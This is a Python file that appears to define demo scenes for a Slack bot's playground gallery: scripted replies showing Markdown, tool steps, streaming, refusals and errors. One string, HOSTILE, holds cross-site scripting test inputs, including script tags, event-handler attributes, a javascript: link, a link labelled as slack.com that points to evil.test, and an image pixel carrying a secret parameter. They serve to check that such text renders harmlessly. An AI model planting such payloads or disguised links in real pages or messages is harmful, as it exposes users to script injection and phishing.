"""The scenes of the gallery. A further one is a further entry of `SCENES`."""

from bot.playground.gallery.plays import (
    Scene,
    answer,
    conversation,
    halfway,
    posted,
    stopped,
    tried_twice,
)
from bot.playground.openai.script import (
    CodeInterpreter,
    FileSearch,
    Gate,
    Incomplete,
    Part,
    Pause,
    Raw,
    Refusal,
    Refuse,
    Script,
    Text,
    WebSearch,
)

SETTINGS = {"assistant_tools": "file_search,code_interpreter,web_search", "vector_store_ids": "vs_1"}

RICH = """\
# Rolling out the new importer

Here is where we stand, with **three things** left to decide and *one* that can wait:

| Stage | Rows | Errors | Time |
|:--|--:|--:|:-:|
| Extract | 1,204,331 | 0 | 41 s |
| Transform | 1,204,331 | 12 | 3 min |
| Load | 1,204,319 | 0 | 58 s |

1. Fix the dates, which are `dd.mm.yyyy` in two files
   - `orders_2023.csv`
   - `returns.csv`
     - only the last column
2. Run it again with `--strict`
3. ~~Ask legal~~ (done)

- [x] Dry run on a copy
- [ ] Run on the real thing

> A load that fails half-way is rolled back as a whole.
> Nothing is ever half there.

```python
def parse(day: str) -> date:
    # The old files have the day first.
    if day.count(".") == 2:
        return datetime.strptime(day, "%d.%m.%Y").date()
    return date.fromisoformat(day)
```

---

More in [the manual](https://example.com/manual) or at https://example.com/importer.
"""

SEARCH = FileSearch(
    ["parental leave", "leave policy 2024"],
    [
        ("file-1", "handbook.pdf", 0.91, "Parents may take up to fourteen weeks."),
        ("file-2", "faq.md", 0.42, "Ask Kim for the form."),
    ],
)
CODE = CodeInterpreter("weeks = 14\nprint(weeks * 5)", "70")
WEB = WebSearch("parental leave Denmark", ["https://example.com/leave"])
STEPS: tuple[Part, ...] = (SEARCH, Pause(2.4), WEB, Pause(3.1), CODE, Pause(1.2))
COUNTED = "You may take **14 weeks**, which is 70 working days. They can be split in two."

RUNNING = Raw(
    {
        "type": "response.output_item.added",
        "output_index": 2,
        "item": {"id": "ci_9", "type": "code_interpreter_call", "status": "in_progress", "code": ""},
    }
)


def half(gate: Gate) -> Script:
    """An answer that has begun to say something, and runs code."""
    return Script(SEARCH, Text("I found the table in *handbook.pdf*. Let me add up the weeks"), RUNNING, gate)


LONG = "\n".join(
    [
        "Here is the whole list, by city, with what each of them needs before the move:\n",
        *(
            f"- **Office {number}**: check the lease, the phones and the {number * 7} desks; then tell the people "
            f"who work there, at least {number % 4 + 2} weeks before."
            for number in range(1, 75)
        ),
        "\nThat is all of them.",
    ]
)

HOSTILE = """\
Ping <!channel>, <@U0000001003> and <#C0000001001> & everyone &lt;!here&gt;.

<script>alert("run")</script> <img src=x onerror="alert(1)"> <b onmouseover=alert(2)>bold?</b>

[click me](javascript:alert(3)) [your bank](https://bank.example.evil.test/) [mail](mailto:ann@example.com)

[https://slack.com/login](https://evil.test/) ![pixel](https://evil.test/p.png?secret=1)

`<script>alert(4)</script>` <style>body{display:none}</style> <details open ontoggle=alert(5)>

```html
<script>document.title = "taken"</script><!here>
```
"""

LANGUAGES = (
    (
        "Was heißt „Feierabend“ auf Koreanisch?",
        "Wörtlich gibt es das nicht; am nächsten kommt **퇴근** (*toegeun*, „von der Arbeit gehen“).\n\n"
        "> 오늘도 수고하셨습니다!\n\nDas sagt man dabei: „Sie haben sich auch heute Mühe gegeben.“",
    ),
    (
        "한국어로도 설명해 주세요.",
        "물론입니다. **퇴근**은 하루 일을 마치고 직장을 떠나는 것을 뜻합니다.\n\n"
        "1. 출근: 일하러 감\n2. 퇴근: 일을 마치고 나옴",
    ),
    (
        "ובעברית?",
        'בעברית אומרים **סוף יום העבודה**.\n\n- המשמעות: הזמן שאחרי העבודה\n- דוגמה: `print("שלום")`',
    ),
)

QUOTA = Refuse(429, "insufficient_quota", "You exceeded your current quota", type="insufficient_quota")

SCENES = (
    Scene(
        "short",
        "A question and its answer.",
        answer("what is a thread in Slack?", Script(Text("Replies to **one** message, kept beside the channel."))),
    ),
    Scene(
        "rich",
        "All of Markdown: table, lists, tasks, quote, code.",
        answer("where do we stand?", Script(Text(RICH))),
    ),
    Scene(
        "working",
        "At once: the thread shows as working, with Slack's Stop button.",
        halfway("how long is parental leave?", lambda gate: Script(gate, Text("14 weeks.")), lambda _: True),
    ),
    Scene(
        "streaming",
        "While it works: the steps as they come, and the text.",
        halfway(
            "how long is parental leave?",
            half,
            lambda said: said and len(said[0].tasks) == 2 and "weeks" in said[0].text,
        ),
    ),
    Scene(
        "folded",
        "The end: the steps fold away.",
        answer("how long is parental leave?", Script(*STEPS, Text(COUNTED))),
    ),
    Scene(
        "unfolded",
        "The same, after somebody opened the steps.",
        answer("how long is parental leave?", Script(*STEPS, Text(COUNTED)), unfolded=True),
    ),
    Scene(
        "follow-up",
        "Ann goes on in the thread; she need not mention the bot again.",
        conversation(
            ("suggest a name for our cat", Script(Text("**Tensor**, or *Biscuit* if she is round."))),
            ("she is round", Script(Text("Then Biscuit it is."))),
        ),
    ),
    Scene(
        "languages",
        "German, Korean, Hebrew.",
        conversation(*((said, Script(Text(text))) for said, text in LANGUAGES)),
    ),
    Scene("greeting", "A mention without a question.", answer("")),
    Scene("refusal", "The model declines.", answer("write malware", Script(Refusal("I can't help with that.")))),
    Scene(
        "cut-short",
        "The answer reached its length limit.",
        answer("tell me everything", Script(Text("First of all, everything begins with"), Incomplete())),
    ),
    Scene("failure", "Nothing could be answered; Try again.", answer("how are sales?", Script(QUOTA))),
    Scene(
        "partial-failure",
        "It failed half-way: what was said is kept.",
        answer("how are sales?", Script(Text("Sales were up in May, and"), status="failed")),
    ),
    Scene(
        "tried-twice",
        "Ann pressed Try again; Bo, a moment later, is told so, and only he sees it.",
        tried_twice("how are sales?", Script(QUOTA)),
    ),
    Scene(
        "stopped",
        "Ann pressed Stop.",
        stopped("write a novel", "It was a dark and stormy night; ", "the rain fell in torrents, "),
    ),
    Scene(
        "posted",
        "No stream to be had: posted, then edited; the same content.",
        posted("how long is parental leave?", Script(*STEPS, Text(COUNTED))),
    ),
    Scene(
        "rollover",
        "Longer than one message: it goes on in a second.",
        answer("list all offices", Script(Text(LONG))),
    ),
    Scene("hostile", "Hostile text is shown, and does nothing.", answer("quote that page", Script(Text(HOSTILE)))),
)
